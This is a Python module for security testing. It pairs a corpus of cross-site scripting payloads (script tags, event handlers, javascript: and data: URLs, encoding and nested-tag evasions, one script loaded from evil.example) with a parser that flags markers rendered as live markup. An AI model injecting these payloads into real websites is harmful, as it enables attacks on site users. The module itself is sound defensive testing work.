"""An XSS payload corpus and a checker for rendered pages."""

from __future__ import annotations

from html.parser import HTMLParser

MARK = "XSSMARK"

PAYLOADS: list[str] = [
    f"<script>alert('{MARK}')</script>",
    f"<SCRIPT SRC=//evil.example/{MARK}.js></SCRIPT>",
    f"<img src=x onerror=alert('{MARK}')>",
    f'<img src="x" onerror="alert(\'{MARK}\')">',
    f"<svg onload=alert('{MARK}')>",
    f"<svg><script>alert('{MARK}')</script></svg>",
    f"<body onload=alert('{MARK}')>",
    f"<iframe src=javascript:alert('{MARK}')></iframe>",
    f"<a href=\"javascript:alert('{MARK}')\">click</a>",
    f"[click](javascript:alert('{MARK}'))",
    f"[click](JaVaScRiPt:alert('{MARK}'))",
    f"[click](data:text/html;base64,{MARK})",
    f"[click](vbscript:msgbox('{MARK}'))",
    f"![img](javascript:alert('{MARK}'))",
    f'"><script>alert("{MARK}")</script>',
    f"'><img src=x onerror=alert('{MARK}')>",
    f"</textarea><script>alert('{MARK}')</script>",
    f"</title><script>alert('{MARK}')</script>",
    f"<div style=\"background:url(javascript:alert('{MARK}'))\">x</div>",
    f"<input autofocus onfocus=alert('{MARK}')>",
    f"<details open ontoggle=alert('{MARK}')>",
    f"<math><mtext><table><mglyph><style><img src=x onerror=alert('{MARK}')>",
    f"<object data=javascript:alert('{MARK}')>",
    f"<embed src=javascript:alert('{MARK}')>",
    f"<a href=\"&#106;avascript:alert('{MARK}')\">x</a>",
    f"<a href=\"jav&#x09;ascript:alert('{MARK}')\">x</a>",
    f"<base href=\"javascript:alert('{MARK}')//\">",
    f'<meta http-equiv="refresh" content="0;url=javascript:alert(\'{MARK}\')">',
    f"<form action=javascript:alert('{MARK}')><button>x</button></form>",
    f"<video><source onerror=alert('{MARK}')></video>",
    f"<marquee onstart=alert('{MARK}')>x</marquee>",
    f"{{{{ '{MARK}' }}}}{{% debug %}}",
    f"<scr<script>ipt>alert('{MARK}')</scr</script>ipt>",
    f"`<script>alert('{MARK}')</script>`",
    f"<a href='https://ok.example' onclick=alert('{MARK}')>ok</a>",
    f"<style>@import 'javascript:alert(\"{MARK}\")';</style>",
]

_URL_ATTRS = {"href", "src", "action", "formaction", "data", "background", "poster", "content"}
_DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")


class _Checker(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = " ".join(v or "" for _, v in attrs)
        if MARK in values or tag in {"script", "style"}:
            for name, value in attrs:
                value = (value or "").strip()
                if name.startswith("on") and MARK in value:
                    self.problems.append(f"event handler <{tag} {name}>")
                squashed = "".join(value.split()).lower()
                if name in _URL_ATTRS and MARK in value and squashed.startswith(_DANGEROUS_SCHEMES):
                    self.problems.append(f"dangerous URL in <{tag} {name}>")
                if name == "style" and MARK in value:
                    self.problems.append(f"user style on <{tag}>")
        if tag in {"script", "style"}:
            self._in_script = True
            for name, value in attrs:
                if name == "src" and MARK in (value or ""):
                    self.problems.append("user script src")
        if tag in {"iframe", "object", "embed", "base", "svg", "math"} and MARK in values:
            self.problems.append(f"user <{tag}>")

    def handle_endtag(self, tag: str) -> None:
        if tag in {"script", "style"}:
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and MARK in data:
            self.problems.append("user text inside <script> or <style>")


def unescaped(html: str) -> list[str]:
    """Every way a payload's marker made it into the page as live markup."""
    checker = _Checker()
    checker.feed(html)
    checker.close()
    raw = [p for p in PAYLOADS if "<" in p and p in html]
    return checker.problems + [f"raw payload: {p[:40]}" for p in raw]
